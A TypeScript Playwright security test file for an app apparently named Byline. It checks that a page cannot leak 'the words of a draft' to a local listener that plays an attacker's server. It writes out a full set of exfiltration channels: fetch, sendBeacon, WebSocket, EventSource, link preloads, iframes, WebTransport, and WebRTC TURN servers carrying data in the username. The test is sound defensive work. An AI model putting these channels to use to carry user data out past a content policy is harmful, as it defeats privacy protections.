import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { chromium, type Page } from '@playwright/test';
import { contentSecurityPolicy } from '../../src/main/bundle-scheme.ts';
import { silentSwitches } from '../../src/main/silence.ts';
import { findChromium } from '../../tools/electron-on-chromium/find-chromium.ts';
import { expect, test } from './fixture.ts';

interface Ears {
  tcp: number;
  udp: number;
  /** What came in, each kind once. */
  heard(): string[];
  close(): void;
}

/** A server as an attacker would run it: it takes whatever comes, over TCP and UDP. */
async function listen(): Promise<Ears> {
  const heard = new Set<string>();
  const server = createServer((socket) => {
    heard.add('tcp');
    socket.on('error', () => {});
  });
  const datagrams = createSocket('udp4').on('message', () => heard.add('udp'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
  return {
    tcp: (server.address() as { port: number }).port,
    udp: datagrams.address().port,
    heard: () => [...heard].sort(),
    close: () => {
      server.close();
      datagrams.close();
    },
  };
}

/** Every way known to us by which a page without a right to the network could carry words out of it. */
async function tryEverything(page: Page, { tcp, udp }: Ears): Promise<void> {
  await page.evaluate(
    async ([stream, datagram]) => {
      const words = 'the words of a draft';
      const quietly = async (act: () => unknown) => {
        try {
          await act();
        } catch {
          // Refused, which is what is wanted.
        }
      };
      const append = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.head.append(element);
      };
      const places = [`127.0.0.1:${stream}`, `localhost:${stream}`];
      for (const place of places) {
        const url = `http://${place}/?${encodeURIComponent(words)}`;
        await quietly(() => fetch(url, { mode: 'no-cors' }));
        await quietly(() => navigator.sendBeacon(url, words));
        await quietly(() => new WebSocket(`ws://${place}/`));
        await quietly(() => new EventSource(url));
        await quietly(() => {
          new Image().src = url;
        });
        for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'stylesheet', 'icon'])
          append('link', { rel, href: url, as: 'script' });
        append('iframe', { src: url });
        await quietly(() => new (Reflect.get(globalThis, 'WebTransport'))(`https://${place}/`));
      }
      const login = { username: words, credential: 'x' };
      const connection = new RTCPeerConnection({
        iceServers: [
          ...places.map((place) => ({ urls: `turn:${place}?transport=tcp`, ...login })),
          { urls: `stun:127.0.0.1:${datagram}` },
          { urls: `turn:127.0.0.1:${datagram}?transport=udp`, ...login },
        ],
      });
      connection.createDataChannel('words');
      await connection.setLocalDescription(await connection.createOffer());
      // As long as it takes where nothing holds it back, and more.
      await new Promise((resolve) => setTimeout(resolve, 3_000));
      connection.close();
    },
    [tcp, udp] as const,
  );
}

test.describe('the window', () => {
  test.use({ expectedProblems: /violates|Refused|ERR_|WebSocket|WebTransport|Failed to load|Content Security|not allowed/i });

  test('S11: carries nothing out, by WebRTC or by any other way, to a server that listens beside it', async ({ page }) => {
    const ears = await listen();
    try {
      await tryEverything(page, ears);
      expect(ears.heard()).toEqual([]);
    } finally {
      ears.close();
    }
  });
});

test.describe('a stock browser', () => {
  test.skip(findChromium() === undefined, 'There is no browser here to look at.');

  /** What a browser with these switches lets out of a page that has only Byline's content policy to hold it. */
  async function heardFrom(switches: readonly (readonly [string, string])[]): Promise<string[]> {
    const ears = await listen();
    const args = switches.map(([name, value]) => (value === '' ? `--${name}` : `--${name}=${value}`));
    const browser = await chromium.launch({ executablePath: findChromium() as string, args: ['--no-sandbox', ...args] });
    try {
      const page = await browser.newPage();
      await page.route('https://byline.test/', (route) =>
        route.fulfill({
          headers: { 'content-type': 'text/html', 'content-security-policy': contentSecurityPolicy },
          body: '<p>x</p>',
        }),
      );
      await page.goto('https://byline.test/');
      await tryEverything(page, ears);
      return ears.heard();
    } finally {
      await browser.close();
      ears.close();
    }
  }

  test('lets WebRTC out under the content policy alone, so that these tests can fail', async () => {
    test.skip(process.env.BYLINE_CUT_OFF === '1', 'Where no network is, WebRTC finds no way out by itself.');
    expect(await heardFrom([])).toEqual(['tcp', 'udp']);
  });

  test('S11: is silent with the switches that Byline gives it', async () => {
    expect(await heardFrom(silentSwitches)).toEqual([]);
  });
});
